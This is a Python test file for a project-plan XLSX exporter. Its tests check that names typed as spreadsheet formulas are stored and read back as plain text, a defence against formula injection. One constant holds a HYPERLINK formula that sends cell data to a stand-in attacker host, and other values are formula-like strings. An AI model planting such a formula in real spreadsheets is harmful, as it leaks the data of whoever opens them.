"""The XLSX plan export stores names typed as formulas as text, and reads them back unchanged."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from typing import Any

from openpyxl import load_workbook

from pmo.interop import services, xlsx
from pmo.scheduling import services as plan_services
from pmo.scheduling.planio import CalendarData, ExceptionData
from pmo.scheduling.selectors import plan_data
from pmo.scheduling.tests.factories import STANDARD, small_plan

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _hostile_plan() -> Any:
    """The small plan with formula-like names, and a release due before it can happen."""
    data = small_plan()
    data.name = ATTACK
    data.tasks[1].name = "=1+2"
    data.tasks[2].name = "@SUM(A1:A9)"
    data.tasks[4] = dataclasses.replace(
        data.tasks[4], constraint="FNLT", constraint_date=dt.datetime(2026, 3, 5, 17)
    )
    data.calendars = [
        CalendarData(
            uid=1,
            name="Standard",
            week=STANDARD,
            exceptions=[
                ExceptionData(first=dt.date(2026, 3, 4), last=dt.date(2026, 3, 4), name="-1+1")
            ],
        )
    ]
    return data


def test_plan_export_holds_formula_like_names_as_string_cells(
    make_project: Any, users: Any
) -> None:
    # given a plan whose name, tasks and calendar exception are typed like formulas
    project = make_project()
    plan = plan_services.replace_plan(actor=users["pm"], project=project, data=_hostile_plan())
    # when it is exported and the file is opened
    wb = load_workbook(io.BytesIO(xlsx.write_xlsx(plan)))
    # then every such name is a string cell holding the text as typed
    assert (wb["Plan"]["B1"].value, wb["Plan"]["B1"].data_type) == (ATTACK, "s")
    tasks = {row[0].value: row for row in wb["Tasks"].iter_rows(min_row=2)}
    assert [(tasks[uid][3].value, tasks[uid][3].data_type) for uid in (2, 3)] == [
        ("=1+2", "s"),
        ("@SUM(A1:A9)", "s"),
    ]
    day_off = wb[xlsx.EXCEPTIONS]["D2"]
    assert (day_off.value, day_off.data_type) == ("-1+1", "s")
    # and numbers and dates keep their types: the late release has a negative float
    release = tasks[5]
    assert (release[14].data_type, release[14].value < 0) == ("n", True)
    assert (release[12].data_type, type(release[12].value)) == ("d", dt.datetime)
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


def test_plan_export_read_back_keeps_formula_like_names(make_project: Any, users: Any) -> None:
    # given the plan with formula-like names, exported
    project = make_project()
    plan = plan_services.replace_plan(actor=users["pm"], project=project, data=_hostile_plan())
    # when the file is imported again
    book = xlsx.read_xlsx(xlsx.write_xlsx(plan))
    again = plan_data(services.import_plan_data(actor=users["pm"], data=book, project=project))
    # then the names come back exactly as typed
    assert book.name == ATTACK
    assert [t.name for t in again.tasks] == ["Build", "=1+2", "@SUM(A1:A9)", "Docs", "Release"]
    assert [e.name for e in again.calendars[0].exceptions] == ["-1+1"]
